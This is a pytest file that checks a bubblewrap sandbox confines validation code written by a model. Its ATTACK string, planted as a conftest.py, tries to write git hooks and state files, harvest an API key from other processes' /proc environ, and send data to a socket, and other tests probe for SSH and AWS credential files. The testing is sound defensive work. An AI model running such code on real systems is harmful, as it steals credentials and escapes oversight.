"""Validation runs code the model wrote: the sandbox (real bubblewrap) keeps it in the tree under check.

Each attack of issue 20 is run twice: with ``sandbox = "none"`` it gets through (so the test can fail),
with bwrap it is blocked. Tests that need bwrap skip only when it is absent (CI installs it)."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import git, init_repo

import gep.validation.sandbox as sandbox_mod
from gep.core.config import Settings
from gep.mutators.tools import WorkspaceTools
from gep.validation.runner import run_command, run_validation
from gep.validation.sandbox import Limits, Sandbox, find_bwrap, find_state_dir, validation_refusal

# CI (.ci/run) installs bwrap and sets GEP_REQUIRE_BWRAP: there these tests fail rather than skip without it
needs_bwrap = pytest.mark.skipif(find_bwrap() is None and not os.environ.get("GEP_REQUIRE_BWRAP"),
                                 reason="bubblewrap (bwrap) is not installed or cannot make namespaces here")
KEY = "sk-ant-api03-" + "Zq9" * 14

ATTACK = r'''
import base64, json, os, socket
R = {}
def attempt(name, fn):
    try:
        R[name] = ["done", str(fn())[:100]]
    except BaseException as exc:
        R[name] = ["blocked", type(exc).__name__]
attempt("write_outside", lambda: open(os.path.join(OUTSIDE, "pwned"), "w").write("x"))
attempt("write_git", lambda: open(".git/hooks/post-commit", "w").write("#!/bin/sh\n"))
attempt("write_state", lambda: open(os.path.join(STATE, "genes", "evil.json"), "w").write("{}"))
attempt("read_etc", lambda: open("/etc/hostname").read())
def environ_of_others():
    for pid in os.listdir("/proc"):
        try:
            data = open("/proc/%s/environ" % pid, "rb").read() if pid.isdigit() else b""
        except OSError:
            continue
        if b"ANTHROPIC_API_KEY=" in data:
            return base64.b64encode(data.split(b"ANTHROPIC_API_KEY=")[1].split(b"\0")[0]).decode()
    raise LookupError("no environment holds the key")
attempt("proc_environ", environ_of_others)
def network():
    s = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    s.sendall(b"leak")
    s.close()
attempt("network", network)
attempt("env_key", lambda: base64.b64encode(os.environ["ANTHROPIC_API_KEY"].encode()).decode())
print("RESULTS", json.dumps(R))
'''


@pytest.fixture
def engine_with_key() -> Iterator[int]:
    """A process standing for the engine, with an API key in its environment (as /proc shows it)."""
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"],
                            env={**os.environ, "ANTHROPIC_API_KEY": KEY})
    yield proc.pid
    proc.kill()
    proc.wait()


def _venv_path(monkeypatch: pytest.MonkeyPatch) -> None:
    # `python` in validation commands: this interpreter, which has pytest
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")


def _hostile_ws(tmp_path: Path, outside: Path, port: int) -> Path:
    ws = init_repo(tmp_path / "ws", {"app.py": "X = 1\n", "tests/test_app.py": "def test_x():\n    assert True\n"})
    (ws / ".gep" / "genes").mkdir(parents=True)
    # what the model writes with write_file: pytest imports it
    (ws / "tests" / "conftest.py").write_text(f"OUTSIDE = {str(outside)!r}\nPORT = {port}\n"
                                              f"STATE = {str(ws / '.gep')!r}\n" + ATTACK)
    return ws


def _results(stdout: str) -> dict[str, list[str]]:
    return json.loads(stdout.split("RESULTS ", 1)[1].splitlines()[0])


def _connected(listener: socket.socket) -> bool:
    try:
        conn, _ = listener.accept()
    except (TimeoutError, OSError):
        return False
    conn.close()
    return True


@needs_bwrap
@pytest.mark.parametrize("mode", ["none", "bwrap"])
def test_conftest_escape_through_validation(tmp_path: Path, outside: Path, engine_with_key: int,
                                            listener: socket.socket, monkeypatch: pytest.MonkeyPatch,
                                            mode: str) -> None:
    _venv_path(monkeypatch)
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEY)
    ws = _hostile_ws(tmp_path, outside, listener.getsockname()[1])
    hooks_before = sorted(p.name for p in (ws / ".git" / "hooks").iterdir())
    report = run_validation(commands=["python -m pytest -q -s"], cwd=ws, settings=Settings(sandbox=mode),
                            gene_id="g", report_id="vr_attack")
    results = _results(report.results[0].stdout)  # the conftest did run
    assert report.overall_ok and report.sandbox == mode and report.results[0].sandbox == mode
    escaped = {name for name, (status, _) in results.items() if status == "done"}
    attacks = {"write_outside", "write_git", "write_state", "proc_environ", "network"}
    if mode == "none":
        # the attacks are real: unconfined, every one of them gets through
        assert attacks <= escaped, results
        assert (outside / "pwned").exists() and _connected(listener)
        return
    assert escaped == {"read_etc"}, results  # the rest of the file system is readable, not writable
    assert list(outside.iterdir()) == []
    assert sorted(p.name for p in (ws / ".git" / "hooks").iterdir()) == hooks_before
    assert not (ws / ".gep" / "genes" / "evil.json").exists()
    assert not _connected(listener)
    text = json.dumps(report.model_dump())
    assert KEY not in text and "WnE5WnE5" not in text  # neither the key nor its base64 came back


@needs_bwrap
def test_the_models_run_validation_tool_is_confined_the_same_way(
        tmp_path: Path, outside: Path, engine_with_key: int, listener: socket.socket,
        monkeypatch: pytest.MonkeyPatch) -> None:
    _venv_path(monkeypatch)
    ws = _hostile_ws(tmp_path, outside, listener.getsockname()[1])
    tools = WorkspaceTools(ws, forbidden_paths=[], validation_commands=["python -m pytest -q -s"],
                           settings=Settings(), gene_id="g", cycle_id="evt_t")
    out = tools.call("run_validation", {})
    assert "(exit 0, ok)" in out.content and "RESULTS" in out.content, out.content
    results = _results(out.content)
    assert {n for n, (s, _) in results.items() if s == "done"} == {"read_etc"}
    assert list(outside.iterdir()) == [] and not _connected(listener)


@needs_bwrap
def test_worktree_under_the_state_dir_is_the_only_writable_place(tmp_path: Path, outside: Path) -> None:
    ws = init_repo(tmp_path / "ws", {"app.py": "X = 1\n"})
    (ws / ".gep" / "genes").mkdir(parents=True)
    tree = ws / ".gep" / "worktrees" / "evt_1"
    subprocess.run(["git", "clone", "-q", "--shared", str(ws), str(tree)], check=True)
    assert find_state_dir(tree) == (ws / ".gep").resolve()
    (tree / "probe.py").write_text(
        "import subprocess, sys\n"
        "def w(p):\n"
        "    try:\n        open(p, 'w').write('x'); return 'done'\n"
        "    except OSError as e:\n        return 'blocked'\n"
        f"print('tree', w('in_tree.txt'), 'genes', w({str(ws / '.gep/genes/x.json')!r}),\n"
        f"      'outside', w({str(outside / 'x')!r}), 'git', w('.git/config'))\n"
        f"w({str(ws / 'app.py')!r})\n"
        "print('log', subprocess.run(['git', 'log', '--oneline'], capture_output=True).returncode)\n")
    res = run_command("python probe.py", cwd=tree, settings=Settings())
    assert res.ok and res.sandbox == "bwrap", res.stderr
    assert "tree done genes blocked outside blocked git blocked" in res.stdout
    assert "log 0" in res.stdout  # git works read-only (the clone's alternates are visible)
    assert (tree / "in_tree.txt").exists() and not (ws / ".gep" / "genes" / "x.json").exists()
    # the user's tree saw nothing (under /tmp it is not even visible: a write lands in the private tmpfs)
    assert git(ws, "status", "--porcelain", "--", ".", ":(exclude).gep") == ""
    assert (ws / "app.py").read_text() == "X = 1\n"


@needs_bwrap
def test_credential_files_in_home_are_hidden(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = Path(tempfile.mkdtemp(prefix="gep-home-", dir="/var/tmp"))
    try:
        (home / ".ssh").mkdir()
        (home / ".ssh" / "id_ed25519").write_text("PRIVATE")
        (home / ".netrc").write_text("machine x login u password hunter2")
        monkeypatch.setenv("HOME", str(home))
        (tmp_path / "r.py").write_text(
            "import os\nh = os.environ['HOME']\n"
            "print(sorted(os.listdir(h)), os.path.exists(h + '/.netrc'))\n")
        res = run_command("python r.py", cwd=tmp_path, settings=Settings())
        assert res.ok, res.stderr
        assert "[] False" in res.stdout  # the whole home is an empty tmpfs
        plain = run_command("python r.py", cwd=tmp_path, settings=Settings(sandbox="none"))
        assert ".ssh" in plain.stdout and "True" in plain.stdout  # without the sandbox they are there
    finally:
        shutil.rmtree(home, ignore_errors=True)


@needs_bwrap
@pytest.mark.skipif(not os.access("/opt", os.W_OK), reason="/opt is not writable here")
def test_a_workspace_and_home_in_a_folder_the_root_shows_are_hidden_too(monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 32, finding 1, "whatever their paths": /opt is shown read-only, so a workspace (/opt/app) and a
    HOME there were readable whole: the ignored .env, the engine's .gep/ and ~/.aws/credentials."""
    root = Path(tempfile.mkdtemp(prefix="gep-opt-", dir="/opt"))
    try:
        ws, home = init_repo(root / "app", {".gitignore": ".env\n"}), root / "home"
        (ws / ".env").write_text("ENVSECRET\n")
        (ws / ".gep").mkdir()
        (ws / ".gep" / "gep.db").write_text("STATESECRET\n")
        (home / ".aws").mkdir(parents=True)
        (home / ".aws" / "credentials").write_text("AWSSECRET\n")
        monkeypatch.setenv("HOME", str(home))
        clone = init_repo(ws / ".gep" / "worktrees" / "evt_1", {"r.py": (
            f"for p in [{str(ws / '.env')!r}, {str(ws / '.gep' / 'gep.db')!r}, {str(home / '.aws/credentials')!r}]:\n"
            "    try:\n        print(open(p).read().strip())\n    except OSError:\n        print('hidden')\n")})
        for mode, seen in (("auto", "hidden\nhidden\nhidden"), ("none", "ENVSECRET\nSTATESECRET\nAWSSECRET")):
            box = Sandbox.resolve(clone, Settings(sandbox=mode), state_dir=ws / ".gep")
            rep = run_validation(commands=["python r.py"], cwd=clone, settings=Settings(sandbox=mode), gene_id=None,
                                 report_id="r", sandbox=box)
            assert rep.results[0].stdout.strip() == seen, (mode, rep.results[0].stdout, rep.results[0].stderr)
    finally:
        shutil.rmtree(root, ignore_errors=True)


# ------------------------------------------------------------------ limits


@needs_bwrap
def test_memory_limit(tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text("b = bytearray(400 * 1024 * 1024)\nb[::4096] = b'x' * len(b[::4096])\n"
                                   "print('allocated')\n")
    res = run_command("python m.py", cwd=tmp_path, settings=Settings(sandbox_memory_mb=100))
    assert not res.ok and "allocated" not in res.stdout
    assert any(limit.startswith("memory 100 MiB") for limit in res.limits or [])
    assert run_command("python m.py", cwd=tmp_path, settings=Settings(sandbox_memory_mb=1024)).ok


@needs_bwrap
def test_process_limit(tmp_path: Path) -> None:
    with Limits(Settings(), timeout_s=1) as probe:
        applied = probe.applied
    if not any("cgroup pids" in a for a in applied):
        pytest.skip("no writable pids cgroup on this machine (recorded as not limited)")
    (tmp_path / "p.py").write_text(
        "import subprocess\nkids = []\n"
        "try:\n    for _ in range(60):\n        kids.append(subprocess.Popen(['sleep', '30']))\n"
        "except OSError as e:\n    print('refused after', len(kids))\n    raise SystemExit(3)\n"
        "print('started', len(kids))\n")
    res = run_command("python p.py", cwd=tmp_path, settings=Settings(sandbox_max_processes=20))
    assert res.exit_code == 3 and "refused after" in res.stdout, res.stdout + res.stderr
    assert "processes 20 (cgroup pids)" in (res.limits or [])


@needs_bwrap
def test_output_limit_kills_a_flood(tmp_path: Path) -> None:
    # 5 MB, then silence: without the cap this would run into the timeout
    (tmp_path / "o.py").write_text("import sys, time\nfor _ in range(80):\n    sys.stdout.write('x' * 65536)\n"
                                   "sys.stdout.flush()\ntime.sleep(30)\n")
    res = run_command("python o.py", cwd=tmp_path, settings=Settings(max_output_bytes=1_000_000,
                                                                     validation_timeout_s=8))
    assert not res.ok and not res.timed_out and "output over 1000000 bytes" in res.stderr
    assert len(res.stdout) < 30_000


@needs_bwrap
def test_the_private_tmp_is_private_and_the_tree_under_tmp_is_visible(tmp_path: Path) -> None:
    secret = Path(tempfile.mkdtemp(prefix="gep-hostfile-")) / "host.txt"
    secret.write_text("host /tmp content")
    try:
        (tmp_path / "t.py").write_text(f"import os\nprint(os.path.exists({str(secret)!r}), os.getcwd())\n"
                                       "open('/tmp/scratch', 'w').write('x')\n")
        res = run_command("python t.py", cwd=tmp_path, settings=Settings())
        assert res.ok and res.stdout.startswith(f"False {tmp_path.resolve()}"), res.stdout + res.stderr
        assert not Path("/tmp/scratch").exists() or Path("/tmp/scratch").read_text() != "x"
    finally:
        shutil.rmtree(secret.parent)


# ------------------------------------------------------------------ policy


def test_without_bwrap_a_models_change_is_not_validated_unless_the_user_said_none(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox_mod, "find_bwrap", lambda: None)
    auto = Settings()
    assert "bubblewrap (bwrap) is not installed" in (validation_refusal("model", auto) or "")
    assert "an agent" in (validation_refusal("agent", auto) or "")
    assert validation_refusal("person", auto) is None  # a person's change may run unconfined
    assert validation_refusal("model", Settings(sandbox="none")) is None  # the user's explicit choice
    assert validation_refusal("person", Settings(sandbox="bwrap")) is not None  # required, and missing
    (tmp_path / "ok.py").write_text("print('ran')\n")
    box = Sandbox.resolve(tmp_path, auto, origin="model")
    report = run_validation(commands=["python ok.py"], cwd=tmp_path, settings=auto, gene_id="g",
                            report_id="vr_1", sandbox=box)
    assert not report.overall_ok and report.sandbox == "none"
    assert report.results[0].blocked_reason and "sandbox:" in report.results[0].blocked_reason
    assert "ran" not in report.results[0].stdout
    person = run_validation(commands=["python ok.py"], cwd=tmp_path, settings=auto, gene_id="g",
                            report_id="vr_2", sandbox=Sandbox.resolve(tmp_path, auto, origin="person"))
    assert person.overall_ok and person.sandbox == "none" and "ran" in person.results[0].stdout


@needs_bwrap
def test_results_record_the_sandbox_and_the_limits(tmp_path: Path) -> None:
    (tmp_path / "ok.py").write_text("print('hi')\n")
    res = run_command("python ok.py", cwd=tmp_path, settings=Settings())
    assert res.sandbox == "bwrap" and res.limits and res.limits[0].startswith("time ")
    none = run_command("python ok.py", cwd=tmp_path, settings=Settings(sandbox="none"))
    assert none.sandbox == "none" and none.ok


def stand_in_version_manager(root: Path) -> None:
    """A pyenv-like manager at ``root``: ``shims/python`` execs ``libexec/toolenv``, which runs the system's
    python3 (skips the test where there is none)."""
    system_python = next((p for p in ("/usr/bin/python3", "/bin/python3") if os.access(p, os.X_OK)), None)
    if system_python is None:
        pytest.skip("no system python3 for the stand-in version manager to run")
    (root / "libexec").mkdir(parents=True)
    (root / "shims").mkdir()
    (root / "libexec" / "toolenv").write_text(f"#!/bin/sh\nshift\nexec {system_python} \"$@\"\n")
    (root / "shims" / "python").write_text(f"#!/bin/sh\nexec {root}/libexec/toolenv exec \"$@\"\n")
    for f in (root / "libexec" / "toolenv", root / "shims" / "python"):
        f.chmod(0o755)


@needs_bwrap
def test_tools_from_a_version_manager_in_home_still_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """pyenv-style shims in the home exec the manager's own root: the tool root is shown, the credentials not.

    (Found by bench/evolution.py: with pyenv's ``python`` every validation exited 127 once the home was hidden.)"""
    home = Path(tempfile.mkdtemp(prefix="gep-home-", dir="/var/tmp"))
    try:
        root = home / ".toolenv"
        stand_in_version_manager(root)
        (home / ".aws").mkdir()
        (home / ".aws" / "credentials").write_text("aws_secret_access_key = hunter2")
        (home / ".local" / "bin").mkdir(parents=True)
        (home / ".local" / "share").mkdir()
        (home / ".local" / "share" / "notes.txt").write_text("private")
        monkeypatch.setenv("HOME", str(home))
        monkeypatch.setenv("PATH", f"{home / '.local' / 'bin'}{os.pathsep}{root / 'shims'}{os.pathsep}/usr/bin:/bin")
        (tmp_path / "r.py").write_text(
            "import os\nh = os.environ['HOME']\n"
            "print('SEEN', os.path.exists(h + '/.aws/credentials'), os.path.exists(h + '/.local/share/notes.txt'))\n")
        res = run_command("python r.py", cwd=tmp_path, settings=Settings())
        assert res.ok, res.stderr
        assert "SEEN False False" in res.stdout  # the tool ran; the credentials and ~/.local's data stay hidden
    finally:
        shutil.rmtree(home, ignore_errors=True)


@needs_bwrap
def test_a_version_manager_checked_out_outside_the_home_still_runs(tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """pyenv installed as a git checkout outside the home the command gets (a HOME changed for a service, or a
    system-wide install): its shims exec its root, which was left out as "a repository", and every validation
    exited 127, recorded as the change failing (found by bench/evolution.py with an empty HOME)."""
    outside = Path(tempfile.mkdtemp(prefix="gep-vm-", dir="/var/tmp"))
    try:
        root = outside / ".toolenv"
        stand_in_version_manager(root)
        subprocess.run(["git", "init", "-q", str(root)], check=True)  # as pyenv, rbenv, asdf install
        home = tmp_path / "home"
        home.mkdir()
        monkeypatch.setenv("HOME", str(home))
        monkeypatch.setenv("PATH", f"{root / 'shims'}{os.pathsep}/usr/bin:/bin")
        tree = tmp_path / "ws"
        tree.mkdir()
        (tree / "r.py").write_text("print('RAN')\n")
        res = run_command("python r.py", cwd=tree, settings=Settings())
        assert res.sandbox == "bwrap" and res.ok, (res.exit_code, res.stderr)
        assert "RAN" in res.stdout
    finally:
        shutil.rmtree(outside, ignore_errors=True)


@needs_bwrap
def test_a_tool_removed_before_bwrap_starts_is_left_out_not_a_failure(tmp_path: Path) -> None:
    """The tool folders are found when the command line is built and bound when bwrap starts: one removed in
    between (an uninstall; another test's helper linked from /usr/local/bin) made bwrap fail with "Can't find
    source path", a host hiccup recorded as the change's failure."""
    tree = init_repo(tmp_path / "ws")
    tool = Path(tempfile.mkdtemp(prefix="gep-vanishing-", dir="/var/tmp"))
    (tool / "bin").mkdir()
    env = {"PATH": os.pathsep.join([str(tool / "bin"), "/usr/bin", "/bin"]), "HOME": str(tmp_path / "home")}
    argv = Sandbox.resolve(tree, Settings(sandbox="bwrap")).wrap(["/bin/sh", "-c", "echo ran"], cwd=tree, env=env)
    assert str(tool) in argv  # bound, had it stayed
    shutil.rmtree(tool)
    done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout) == (0, "ran\n"), done.stderr


def test_under_answers_as_pathlib_does() -> None:
    """_under compares strings (a validation asks it thousands of times): the same answers as pathlib's
    ``path == root or root in path.parents``, for the root, siblings sharing a prefix, relative paths and "//"."""
    from gep.validation.sandbox import _under

    paths = ["/", "/a", "/a/b", "/ab", "/a/b/c", "a", "a/b", ".", "//a", "//a/b", "/usr/local/bin"]
    for p in paths:
        for root in paths + ["/a/", "/usr"]:
            assert _under(Path(p), root) == (Path(p) == Path(root) or Path(root) in Path(p).parents), (p, root)
